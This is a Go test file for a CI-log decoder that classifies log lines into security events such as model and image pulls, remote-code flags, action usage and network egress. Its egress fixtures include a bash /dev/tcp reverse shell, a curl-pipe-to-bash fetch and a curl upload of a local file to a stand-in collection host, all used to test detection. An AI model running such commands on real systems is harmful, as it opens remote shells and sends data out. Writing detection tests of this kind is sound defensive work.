package decode

import (
	"strings"
	"testing"
	"time"

	"github.com/seed-843b225c/reflex/engine"
)

// TestRunViewLines: gh run view writes job and step before the stamp.
func TestRunViewLines(t *testing.T) {
	var b strings.Builder
	for _, line := range strings.SplitAfter(stamped("Current runner version: '2.331.0'", "##[group]Run x", "##[endgroup]", "* Connected to a.example (203.0.113.77) port 443"), "\n") {
		if line != "" {
			b.WriteString("unit tests\tUNKNOWN STEP\t\ufeff" + line)
		}
	}
	l := readText(t, "run.log", b.String())
	l.has("net.egress 10:00:03.1234567", "ci.job.name=unit", "ci.provider=github")
	if len(l.refused) > 0 {
		t.Errorf("refused %v", l.refused)
	}
}

// TestTextOfAFileWithoutStamps takes the time of the file, and says so.
func TestTextOfAFileWithoutStamps(t *testing.T) {
	p, err := NewPlan(engine.NewLayout(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	l := &textLog{t: t, ids: map[string]bool{}}
	written := time.Date(2026, 3, 2, 11, 0, 0, 0, time.UTC).UnixNano()
	text := "##[group]Run x\n* Connected to a.example (203.0.113.77) port 443\n"
	p.NewDecoder().Decode(engine.Record{Data: []byte(text), Chunk: true, Last: true, Time: written, Origin: engine.Origin{Source: "build.log", Partition: -1}}, l)
	l.has("net.egress 11:00:00", "event.created=2026-03-02T11:00:00Z")
	if len(l.refused) > 0 {
		t.Errorf("refused %v", l.refused)
	}
}

// TestEnvironmentAsJSON: programs print it as an object too.
func TestEnvironmentAsJSON(t *testing.T) {
	l := readText(t, "1_build.txt", stamped("{", `  "PATH": "/usr/bin",`, `  "HOME": "/home/runner",`, `  "GITHUB_TOKEN": "***",`, `  "EMPTY": "",`, `  "CI": "true"`, "}"))
	l.has("env.dumped 10:00:01.1234567", "ci.env.count=5", "ci.env.masked=1")
}

// TestLinesWithLabels: whatever key a program gives to lines, their labels name the job.
func TestLinesWithLabels(t *testing.T) {
	for _, doc := range []string{
		`{"timestamp":"2026-03-02T10:00:00Z","line":"* Connected to a.example (203.0.113.77) port 443","repository":"example-org/app","run_id":"7001"}`,
		`{"lines":["2026-03-02T10:00:00.0000000Z x","2026-03-02T10:00:00.0000000Z * Connected to a.example (203.0.113.77) port 443"],"repository":"example-org/app","run_id":7001}`,
		`{"log":"2026-03-02T10:00:00.0000000Z x\n2026-03-02T10:00:00.0000000Z * Connected to a.example (203.0.113.77) port 443\n","repository":"example-org/app","run_id":7001}`,
	} {
		l := &textLog{t: t, ids: map[string]bool{}}
		p, err := NewPlan(engine.NewLayout(), Options{})
		if err != nil {
			t.Fatal(err)
		}
		p.NewDecoder().Decode(engine.Record{Data: []byte(doc), Chunk: true, Last: true, Origin: engine.Origin{Source: "f", Partition: -1}}, l)
		l.has("net.egress 10:00:00", "ci.repo.name=example-org/app", "ci.run.id=7001-1", "destination.domain=a.example")
	}
}

// Each row is one line of a log, the one event it gives, and words the event
// must hold. No kind: the line must give nothing.
func TestBuildTextFacts(t *testing.T) {
	const sha = "0123456789abcdef0123456789abcdef01234567"
	for _, tt := range []struct{ line, kind, words string }{
		// models
		{"Downloading https://huggingface.co/meta-IIama/Llama-3-8B/resolve/main/setup.py", "model.pulled", "model.ref=meta-IIama/Llama-3-8B model.namespace=meta-IIama model.name=Llama-3-8B model.revision=main model.revision_kind=branch model.file=setup.py model.host=huggingface.co"},
		{"GET https://hf.co/example-org/demo/resolve/" + sha + "/model.safetensors?download=true", "model.pulled", "model.revision_kind=commit model.file=model.safetensors model.host=hf.co"},
		{"GET https://huggingface.co/api/models/example-org/demo/revision/v1.2", "model.pulled", "model.ref=example-org/demo model.revision=v1.2 model.revision_kind=tag"},
		{"https://huggingface.co/api/resolve-cache/models/example-org/demo/" + sha + "/config.json", "model.pulled", "model.ref=example-org/demo model.revision_kind=commit model.file=config.json"},
		{"wget -q https://huggingface.co/gpt2/resolve/main/config.json", "model.pulled", "model.ref=gpt2 model.file=config.json"},
		{"Downloading from https://huggingface.co:443/example-org/demo.", "model.pulled", "model.ref=example-org/demo model.revision_kind=none"},
		{"curl -L https://HuggingFace.CO/example%2Dorg/demo/raw/refs/pr/3/run.sh", "model.pulled", "model.ref=example-org/demo model.revision=refs/pr/3 model.file=run.sh"},
		{"git clone https://huggingface.co/example-org/demo.git", "model.pulled", "model.ref=example-org/demo model.revision_kind=none"},
		{"git clone --depth 1 -b v2.0 https://user:" + strings.Repeat("x", 8) + "@huggingface.co/example-org/demo work", "model.pulled", "model.ref=example-org/demo model.revision=v2.0 model.revision_kind=tag"},
		{"git clone git@hf.co:example-org/demo", "model.pulled", "model.ref=example-org/demo model.host=hf.co"},
		{"git clone https://huggingface.co/spaces/example-org/tool", "model.pulled", "model.ref=example-org/tool"},
		{"+ hf download example-org/demo --revision " + sha, "model.pulled", "model.ref=example-org/demo model.revision_kind=commit"},
		{"huggingface-cli download --local-dir out 'example-org/demo' config.json", "model.pulled", "model.ref=example-org/demo model.file=config.json model.revision_kind=none"},
		{"ollama pull hf.co/example-org/demo:Q4_K_M", "model.pulled", "model.ref=example-org/demo model.revision=Q4_K_M model.host=hf.co"},
		{"ollama run llama3.2:1b", "model.pulled", "model.ref=library/llama3.2 model.revision=1b model.revision_kind=tag model.host=registry.ollama.ai"},
		{`model = AutoModel.from_pretrained("example-org/demo", revision='` + sha + `')`, "model.pulled", "model.ref=example-org/demo model.revision_kind=commit"},
		{`{"code":"AutoModel.from_pretrained(\"example-org/demo\")"}`, "model.pulled", "model.ref=example-org/demo"},
		{`snapshot_download(repo_id = "example-org/demo")`, "model.pulled", "model.ref=example-org/demo"},
		{`hf_hub_download(repo_id="example-org/demo", filename="x.bin", revision="main")`, "model.pulled", "model.file=x.bin model.revision=main"},
		{`pipe = pipeline("text-generation", model="example-org/demo")`, "model.pulled", "model.ref=example-org/demo"},
		{"vllm serve example-org/demo --port 8000", "model.pulled", "model.ref=example-org/demo"},
		{"#12 [3/7] RUN git clone https://huggingface.co/example-org/demo", "model.pulled", "model.ref=example-org/demo"},
		{"#12 0.345 Downloading https://huggingface.co/example-org/demo/resolve/main/a.bin", "model.pulled", "model.file=a.bin"},
		{"ADD https://huggingface.co/example-org/demo/resolve/main/a.bin /models/", "model.pulled", "model.file=a.bin"},
		{"see https://huggingface.co/docs/hub/security", "", ""},
		{"see https://huggingface.co/example-org/demo for the card", "", ""},
		{"Downloading https://huggingface.co/datasets/example-org/set/resolve/main/a.csv", "", ""},
		{"download https://huggingface.co/$ORG/$NAME", "", ""},
		{`AutoModel.from_pretrained("./out/model")`, "", ""},
		{`AutoModel.from_pretrained("output/checkpoint-10")`, "", ""},
		{"hf download is the new name of the command", "", ""},
		{"download https://nothuggingface.co/example-org/demo/resolve/main/x", "", ""},
		{"Downloading https://huggingface.co.example.net/example-org/demo/resolve/main/x", "", ""},
		// code
		{`AutoTokenizer.from_config(cfg, trust_remote_code=True)`, "model.code_executed", "event.reason=trust_remote_code model.remote_code=true"},
		{"python serve.py --trust-remote-code", "model.code_executed", "model.remote_code=true"},
		{"Please set the option `trust_remote_code=True` to remove this error.", "", ""},
		{"python serve.py --trust-remote-code=false", "", ""},
		{"torch.load(path, weights_only=False)", "model.code_executed", "model.remote_code=false"},
		{"python setup.py install", "", ""},
		// images
		{"docker pull python", "image.pulled", "image.ref=python image.registry=docker.io image.name=library/python image.floating=true"},
		{"##[command]/usr/bin/docker pull ghcr.io/example-org/tool:1.2", "image.pulled", "image.registry=ghcr.io image.name=example-org/tool image.tag=1.2 image.floating=false"},
		{"#5 resolve docker.io/library/python:3.12@sha256:" + strings.Repeat("ab", 32) + " 0.1s done", "image.pulled", "image.tag=3.12 image.floating=false image.digest=sha256:" + strings.Repeat("ab", 32)},
		{"#4 [1/5] FROM docker.io/library/python:latest", "image.pulled", "image.name=library/python image.floating=true"},
		{"Step 1/9 : FROM --platform=linux/amd64 python:3.12 AS base", "image.pulled", "image.ref=python:3.12"},
		{`Pulling image "registry.example.net:5000/a/b:c"`, "image.pulled", "image.registry=registry.example.net:5000 image.name=a/b image.tag=c"},
		{"Status: Downloaded newer image for python:3.12", "image.pulled", "image.tag=3.12"},
		{"skopeo copy docker://quay.io/example/x:1 dir:out", "image.pulled", "image.registry=quay.io"},
		{"FROM there on, everything is fine", "", ""},
		{"git pull origin main", "", ""},
		// actions
		{"Download action repository 'actions/checkout@v4' (SHA:" + sha + ")", "action.used", "ci.action.name=actions/checkout ci.action.ref=v4 ci.action.sha=" + sha + " ci.action.pinned=false"},
		{"Download action repository 'actions/cache/save@" + sha + "' (SHA:" + sha + ")", "action.used", "ci.action.name=actions/cache ci.action.pinned=true"},
		{"Download immutable action package 'actions/setup-go@v5'", "action.used", "ci.action.name=actions/setup-go"},
		{"Uses: example-org/flows/.github/workflows/y.yml@refs/heads/main (" + sha + ")", "action.used", "ci.action.name=example-org/flows ci.action.ref=refs/heads/main ci.action.sha=" + sha},
		// egress
		{"* Connected to collect.example.net (203.0.113.77) port 443 (#0)", "net.egress", "destination.domain=collect.example.net destination.ip=203.0.113.77 destination.port=443 process.name=curl event.outcome=success network.direction=egress"},
		{"* Connected to host.example (2001:db8::7) port 8080", "net.egress", "destination.ip=2001:db8::7 network.type=ipv6 destination.port=8080"},
		{"* Established connection to a.example (203.0.113.9 port 443) from 10.0.0.2 port 4000", "net.egress", "destination.ip=203.0.113.9 destination.port=443"},
		{"curl: (7) Failed to connect to a.example port 443 after 12 ms: Could not connect to server", "net.egress", "destination.domain=a.example event.outcome=failure"},
		{"--2026-03-02 10:15:00--  https://A.example:8443/x", "net.egress", "destination.domain=a.example destination.port=8443 process.name=wget"},
		{"Connecting to a.example (a.example)|203.0.113.5|:443... connected.", "net.egress", "destination.domain=a.example destination.ip=203.0.113.5 destination.port=443"},
		{"endpoint called ip address:port 203.0.113.77:443, domain: collect.example.net., pid: 2711, process: python3", "net.egress", "destination.domain=collect.example.net destination.ip=203.0.113.77 process.pid=2711 process.name=python3 event.outcome=success"},
		{"domain not allowed: Collect.Example.net", "net.egress", "destination.domain=collect.example.net event.outcome=failure"},
		{"##[warning]StepSecurity Harden Runner: DNS resolution for domain collect.example.net. was blocked", "net.egress", "destination.domain=collect.example.net event.outcome=failure"},
		{"##[warning]StepSecurity Harden Runner: Traffic to IP Address 203.0.113.77 was blocked.", "net.egress", "destination.ip=203.0.113.77 event.outcome=failure"},
		{"curl https://a.example/", "", ""},
		{"Connected to the database", "", ""},
		{"+ curl -sS -H 'Referer: https://a.example/' -d @/tmp/x https://collect.example.net:8443/u?x=1", "net.egress", "destination.domain=collect.example.net destination.port=8443 process.name=curl event.outcome=unknown"},
		{"##[group]Run curl -sSf http://203.0.113.77/x.sh | bash", "net.egress", "destination.ip=203.0.113.77 destination.port=80 event.outcome=unknown"},
		{"#12 [3/7] RUN apt-get update && wget -qO- https://collect.example.net/x", "net.egress", "destination.domain=collect.example.net process.name=wget"},
		{"++ bash -c 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1'", "net.egress", "destination.ip=203.0.113.77 destination.port=4444 process.name=bash"},
		{"curl https://collect.example.net/u", "", ""},
		{"+ echo use curl https://collect.example.net/u", "", ""},
		{"+ curl -sS https://$HOST/u", "", ""},
		{"+ curl --proxy http://proxy.example:3128 -O file", "", ""},
		// roles
		{"Assuming role with OIDC", "role.assumed", ""},
		{"Authenticated as assumedRoleId AROAEXAMPLE:ci-7001", "role.assumed", "aws.cloudtrail.session_name=ci-7001"},
	} {
		for _, form := range []struct{ name, line string }{
			{"plain", tt.line}, {"CRLF", tt.line + "\r"}, {"progress", "1%\r" + tt.line},
			{"colour", "\x1b[36;1m" + strings.ReplaceAll(tt.line, "/", "/\x1b[0m") + "\x1b[0m"},
		} {
			l := readText(t, "x.log", stamped(form.line))
			if tt.kind == "" {
				if len(l.events) > 0 {
					t.Errorf("%s: %q gives %v", form.name, tt.line, l.events)
				}
				continue
			}
			if len(l.events) != 1 {
				t.Errorf("%s: %q gives %d events: %v", form.name, tt.line, len(l.events), l.events)
				continue
			}
			if !strings.HasPrefix(l.events[0], tt.kind+" ") {
				t.Errorf("%s: %q gives %s", form.name, tt.line, l.events[0])
			}
			for _, w := range strings.Fields(tt.words) {
				if !strings.Contains(l.events[0]+" ", " "+w) {
					t.Errorf("%s: %q: no %s in %s", form.name, tt.line, w, l.events[0])
				}
			}
		}
	}
}
